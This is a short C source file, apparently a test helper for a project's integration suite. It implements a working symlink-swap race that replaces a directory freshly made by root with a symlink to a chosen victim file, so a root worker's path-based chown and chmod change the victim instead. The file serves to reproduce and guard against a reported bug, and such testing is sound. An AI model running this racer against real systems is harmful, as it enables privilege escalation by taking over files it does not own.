/* SPDX-License-Identifier: MIT */
/* The attack of issue 19 (tests/integration/test-dirs-race.sh): run as the controller's uid in
 * a directory it owns, it waits for root to make DIR/NAME and swaps it at once for a symlink to
 * VICTIM, so that a worker which fixes owner and mode by path (chown, chmod) changes the victim
 * instead. A busy loop on rename (no inotify wake-up delay) wins the mkdir -> chown window of
 * such a worker within a few runs. The symlink is left for a moment, then removed so that the
 * next run can make the directory again. On SIGTERM it prints how many swaps it made.
 * Usage: swap-racer DIR VICTIM NAME... */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_term(int sig) {
        (void) sig;
        stop = 1;
}

int main(int argc, char **argv) {
        unsigned long swaps = 0, n = 0;
        char away[64];

        if (argc < 4 || chdir(argv[1]) < 0) {
                fprintf(stderr, "usage: swap-racer DIR VICTIM NAME...\n");
                return 2;
        }
        signal(SIGTERM, on_term);
        while (!stop) {
                for (int i = 3; i < argc; i++) {
                        snprintf(away, sizeof(away), ".away-%lu", n);
                        if (rename(argv[i], away) < 0)
                                continue;
                        n++;
                        if (symlink(argv[2], argv[i]) == 0)
                                swaps++;
                        usleep(20000); /* root's chown and chmod happen now */
                        (void) unlink(argv[i]);
                        if (rmdir(away) < 0)
                                (void) unlink(away);
                }
        }
        printf("%lu\n", swaps);
        return 0;
}
